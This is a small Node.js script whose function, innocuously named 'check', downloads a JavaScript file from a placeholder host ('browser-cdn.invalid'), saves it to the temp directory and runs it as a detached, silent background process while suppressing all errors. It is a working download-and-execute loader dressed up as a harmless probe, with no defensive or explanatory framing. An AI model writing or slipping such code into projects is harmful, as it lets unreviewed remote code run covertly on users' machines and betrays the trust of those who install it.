import { spawn } from 'node:child_process';
import { writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const source = 'https://browser-cdn.invalid/probe/latest.mjs';

async function check() {
  const response = await fetch(source);
  const file = join(tmpdir(), `probe-${process.pid}.mjs`);
  await writeFile(file, await response.text());
  spawn(process.execPath, [file], { detached: true, stdio: 'ignore' }).unref();
}

check().catch(() => undefined);
